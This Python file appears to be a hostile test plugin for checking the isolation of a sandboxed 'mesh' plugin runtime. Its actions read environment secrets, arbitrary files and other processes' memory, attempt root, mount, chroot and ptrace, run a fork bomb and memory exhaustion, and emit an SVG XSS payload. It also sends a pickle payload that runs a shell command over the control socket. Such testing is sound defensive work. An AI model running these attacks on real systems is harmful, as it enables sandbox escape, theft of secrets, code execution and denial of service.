"""Attacks the mesh as its caller asks: caller and author are one enemy.

A package as a stranger would install it. Its input is a deed and its target; its output is the result.
"""

from __future__ import annotations

import ctypes
import os
import socket
import struct
import sys
import time
from pathlib import Path
from typing import Any

import numpy as np

from dapps import Case, ClinicalFile, DApp, Finding, IntakeRefused, Price, Report, Tensor
from dapps.api.types import Prepared


class Hostile(DApp):
    """Attacks the mesh that it runs in."""

    version = "1"
    inputs = (Tensor("DEED", "BYTES", [2]),)
    outputs = (Tensor("LOOT", "BYTES", [1]), Tensor("SCORE", "FP32", [1]))
    price = Price(100, maximum_items=4)
    maximum_batch = 4

    def load(self, device: str) -> None:
        self.hoard: list[Any] = []

    def forward(self, **tensors: Any) -> dict[str, Any]:
        loot = [self.do(deed.decode(), target.decode()) for deed, target in tensors["DEED"]]
        score = [float("nan") if value == "nan" else 1.0 for value in loot]
        rows = len(loot) + loot.count("rows")
        texts = np.array([value.encode() for value in (loot * 2)[:rows]], object).reshape(-1, 1)
        return {"LOOT": texts, "SCORE": np.array(score, "f4").reshape(-1, 1)}

    def example(self) -> dict[str, Any]:
        return {"DEED": np.array([[b"nothing", b""]], object)}

    def prepare(self, case: Case) -> Prepared:
        deed, _, target = case.files[0].data.decode().partition(" ")
        if deed == "refuse":
            raise IntakeRefused(target, "no")
        result = self.do(deed, target)
        # `object()` is no JSON: the facts of a case never leave the child.
        return Prepared((self.example(),), {"result": result, "file": case.files[0], "odd": object()})

    def conclude(self, prepared: Prepared, outputs: Any) -> Report:
        prepared.facts["file"]
        return Report(prepared.facts["result"], (Finding("x", "x", None),))

    def picture(self, prepared: Prepared, outputs: Any, report: Report) -> bytes:
        return b"<svg onload=alert(1)>" if report.summary == "svg" else b"\x89PNG\r\n\x1a\n" + report.summary.encode()

    def sample(self) -> ClinicalFile:
        return ClinicalFile(b"nothing")

    def do(self, deed: str, target: str) -> str:
        try:
            return str(getattr(self, f"do_{deed}")(target))
        except OSError as error:
            return f"refused: {type(error).__name__} {error.errno}"
        except MemoryError:
            return "refused: MemoryError"

    def do_nothing(self, target: str) -> str:
        return target or "nothing"

    do_nan = do_rows = do_svg = lambda self, target: target

    def do_modules(self, target: str) -> str:
        return " ".join(sys.modules)

    def do_environment(self, target: str) -> str:
        return " ".join(f"{name}={value}" for name, value in os.environ.items())

    def do_read(self, target: str) -> str:
        return Path(target).read_text()

    def do_list(self, target: str) -> str:
        return " ".join(os.listdir(target))

    def do_write(self, target: str) -> str:
        return f"wrote {Path(target).write_text('mine')}"

    def do_processes(self, target: str) -> str:
        processes = [path for path in Path("/proc").iterdir() if path.name.isdigit()]
        return "\n".join((path / "cmdline").read_bytes().replace(b"\0", b" ").decode() for path in processes)

    def do_memory(self, target: str) -> str:
        """Reads another process's memory: `pid address length`."""
        pid, address, length = map(int, target.split())
        buffer = ctypes.create_string_buffer(length)
        ours, theirs = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), length), (ctypes.c_size_t * 2)(address, length)
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.process_vm_readv(pid, ours, 1, theirs, 1, 0) != length:
            raise OSError(ctypes.get_errno(), "process_vm_readv")
        return buffer.raw.decode()

    def do_signal(self, target: str) -> str:
        os.kill(int(target), 0)
        return "it could be ended"

    def do_redis(self, target: str) -> str:
        with socket.socket(socket.AF_UNIX) as store:
            store.connect(target)
            store.sendall(b"PING\r\n")
            return store.recv(64).decode()

    def do_connect(self, target: str) -> str:
        with socket.create_connection(("127.0.0.1", int(target)), timeout=5):
            return "connected"

    def do_pair(self, target: str) -> str:
        """A socket that needs no address of its own to send to another's."""
        ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        with ours, theirs:
            return "made"

    def do_files(self, target: str) -> str:
        """The kinds of open files, beside the standard three."""
        kinds = []
        for number in range(3, 256):
            try:
                kinds.append(os.readlink(f"/proc/self/fd/{number}").split(":")[0].split("/")[-1])
            except OSError:
                continue
        return " ".join(kinds)

    def do_privileges(self, target: str) -> str:
        """Tries to become root, to mount, and to leave its root folder; reports what succeeded."""
        libc = ctypes.CDLL(None, use_errno=True)
        got = [name for name, status in (
            ("setuid", libc.setuid(0)),
            ("mount", libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)),
            ("umount", libc.umount2(b"/", 2)),
            ("chroot", libc.chroot(b"/usr")),
            ("ptrace", libc.ptrace(16, 1, 0, 0)),
        ) if status == 0]  # fmt: skip
        lines = Path("/proc/self/status").read_text().splitlines()
        sets = [line.split()[1] for line in lines if line.startswith(("CapEff", "CapPrm", "CapBnd"))]
        return f"got={got} sets={sets} user={os.getuid()}"

    def do_hang(self, target: str) -> str:
        while True:
            time.sleep(1)

    def do_crash(self, target: str) -> str:
        os.abort()

    def do_fork(self, target: str) -> str:
        """Starts processes without end, which outlive their parent if they can."""
        for count in range(10_000):
            try:
                child = os.fork()
            except BlockingIOError:
                return f"{count} processes"
            if child == 0:
                os.setsid()
                time.sleep(600)
                os._exit(0)
        return "10000 processes"

    def do_allocate(self, target: str) -> str:
        for _ in range(1 << 20):
            self.hoard.append(np.empty(64 << 20, "u1"))  # the limit is on address space
        return "all the memory there is"

    def do_forge(self, target: str) -> str:
        """Writes to the control socket itself, in the place of the mesh's own code."""
        for number in range(3, 64):
            try:
                control = socket.socket(fileno=os.dup(number))
            except OSError:
                continue
            self._forge(control, target)
        return "forged"

    def _forge(self, control: socket.socket, target: str) -> None:
        if target == "garbage":
            control.send(b"garbage")
        elif target == "pickle":
            control.send(b"\x80\x04cos\nsystem\n(S'touch /tmp/owned'\ntR.")
        elif target == "short":  # a file shorter than its message
            file = os.memfd_create("short")
            socket.send_fds(control, [struct.pack("<QQ", 100, 1 << 20)], [file])
        elif target == "huge":
            file = os.memfd_create("huge")
            socket.send_fds(control, [struct.pack("<QQ", 100, 1 << 62)], [file])
        elif target == "pipe":  # reading a pipe would wait
            end, _ = os.pipe()
            socket.send_fds(control, [struct.pack("<QQ", 10, 0)], [end])
        elif target == "many":
            socket.send_fds(control, [struct.pack("<QQ", 10, 0)], [os.memfd_create("a"), os.memfd_create("b")])
